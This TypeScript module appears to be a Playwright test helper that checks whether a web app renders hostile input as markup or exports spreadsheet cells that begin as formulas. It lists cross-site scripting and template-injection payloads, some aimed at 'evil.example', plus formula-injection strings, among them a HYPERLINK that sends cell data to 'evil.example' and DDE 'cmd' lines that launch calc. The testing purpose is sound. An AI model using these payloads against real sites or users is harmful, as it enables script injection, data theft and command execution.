import { expect, type Page } from '@playwright/test';

/**
 * Texts that run code if they are interpreted as markup, URL, template, style or formula. An element
 * made from one carries `data-hostile`.
 */
export const SCRIPTS = [
  '<script data-hostile>alert(1)</script>',
  '"><img data-hostile src=x onerror=alert(1)>',
  "'><svg data-hostile onload=alert(1)>",
  '<iframe data-hostile srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '</title></textarea></style><script data-hostile>alert(1)</script>',
  '<a data-hostile href="javascript:alert(1)">x</a>',
  '<style data-hostile>*{display:none}</style>',
  '<base data-hostile href="https://evil.example/">',
  '<meta data-hostile http-equiv=refresh content="0;url=https://evil.example">',
  '<form data-hostile action="https://evil.example"><button>x</button></form>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as a template would have it
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>',
  'javascript:alert(1)//https://evil.example',
] as const;

/** Formulas that a spreadsheet would run; no cell of an export may begin as they do. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "+cmd|' /C calc'!A1",
  "-2+3+cmd|' /C calc'!A1",
  "@SUM(1+1)*cmd|' /C calc'!A1",
  '=1+1";=1+1',
  '＝1+1',
] as const;

/** The n-th text of both lists together. */
export function hostileText(n: number): string {
  const all = [...SCRIPTS, ...FORMULAS];
  return all[n % all.length] ?? '';
}

/** Records dialogs, and requests to other origins. */
export class ScriptWatch {
  readonly seen: string[] = [];

  /** From now on, on all pages of this page's context. */
  watch(page: Page, own: string): void {
    page.context().on('dialog', async (dialog) => {
      this.seen.push(`dialog: ${dialog.message()}`);
      await dialog.dismiss();
    });
    page.context().on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(own) && !/^(data|blob|about):/.test(url))
        this.seen.push(`request: ${url}`);
    });
  }
}

/** Elements and event handlers that came from a text. */
export function hostileElements(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const elements = document.querySelectorAll('[data-hostile], base, [href^="javascript:" i]');
    const handlers = [...document.querySelectorAll('*')].filter((element) =>
      [...element.attributes].some(({ name }) => /^on[a-z]+$/.test(name)),
    );
    return [...elements, ...handlers].map((element) => element.outerHTML.slice(0, 200));
  });
}

/** No text has become an element. */
export async function expectOnlyText(page: Page, where: string): Promise<void> {
  expect(await hostileElements(page), where).toEqual([]);
}

/** No cell begins as a formula does; numbers are allowed. */
export function expectNoFormula(rows: string[][], where: string): void {
  expect(rows.length, where).toBeGreaterThan(1);
  for (const cell of rows.flat()) {
    if (!/^-?\d+([.,:]\d+)*$/.test(cell))
      expect(cell, where).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
  }
}
